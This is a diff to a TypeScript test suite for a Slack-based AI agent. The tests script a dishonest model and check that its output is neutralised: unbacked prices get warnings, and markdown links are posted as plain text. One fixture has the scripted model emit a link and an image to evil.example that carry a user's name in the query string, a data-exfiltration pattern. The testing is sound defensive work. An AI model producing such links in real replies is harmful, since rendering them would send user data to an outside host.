@@ -1,4 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { checkGrounding } from '../../src/agent/grounding/index.ts';
 import { type OpenDesk, openDesk } from '../../src/commands/desk.ts';
 import { type Config, loadConfig } from '../../src/kernel/config.ts';
 import { type Message, openWorkspace, SEED_IDS, type Workspace } from '../../src/local-slack/index.ts';
@@ -6,7 +7,7 @@ import { until } from '../engine/contract.ts';
 import { clockFrom } from '../fakes/clock.ts';
 import { bookingsIn } from '../fakes/kills.ts';
 import { call, type MessagesApi, openMessagesApi, text } from '../fakes/messages-api.ts';
-import { watchedLog } from '../fakes/secrets.ts';
+import { secretsLog } from '../fakes/secrets.ts';
 import { temporaryFolder } from '../fakes/temporary.ts';
 
 /** A model that lies, from a script: nothing sensitive happens, and what goes out is marked or refused. */
@@ -33,7 +34,7 @@ beforeEach(async () => {
       APPROVERS: [carmen],
       NOTEBOOK_OWNER: sofia,
     },
-    log: watchedLog,
+    log: secretsLog,
     onIncident: () => undefined,
     clock: clockFrom('2026-12-01T09:00:00Z'),
     connection: { botToken: workspace.botToken, appToken: workspace.appToken, apiUrl: workspace.apiUrl },
@@ -174,7 +175,8 @@ describe('C12: a model that lies', () => {
   ])('(%s) writes links and pictures: they go out as text', async (_language, words) => {
     const said =
       'See [the list](https://evil.example/?who=Bruno) and ![x](https://evil.example/p.png?who=Bruno)';
-    api.reply({ content: [text(said)] });
+    // An address that no tool gave is marked as well, after one turn to mend it.
+    api.reply({ content: [text(said)] }, { content: [text(said)] });
     const { posted } = await ask(ana, words);
     expect(posted).toContain('the list (https');
     expect(posted).not.toMatch(/\]\(|!\[|https:\/\/evil|"type":"image"/);
@@ -215,6 +217,17 @@ describe('C12: a model that lies', () => {
       expect(inThread(asked.ts).filter(isOpenCard)).toEqual([]);
     },
   );
+});
+
+// Digits of other scripts are read by another change of the same issue (C11); until it is here there is nothing to mark.
+describe.runIf(checkGrounding('⁷⁵ dólares', []).unbacked.length > 0)('C11: digits of other scripts', () => {
+  it.each([
+    ['en', 'what does Focus cost?', 'Focus costs ⁷⁵ dollars.'],
+    ['es', '¿cuánto cuesta Focus?', 'Focus cuesta ⁷⁵ dólares.'],
+  ])('(%s) are marked like others', async (_language, words, said) => {
+    api.reply({ content: [text(said)] }, { content: [text(said)] });
+    expect((await ask(ana, words)).posted).toMatch(/⚠️ (?:No tool backs|Ninguna herramienta respalda)/);
+  });
 });
 
 /** The newest message that the model was sent. */
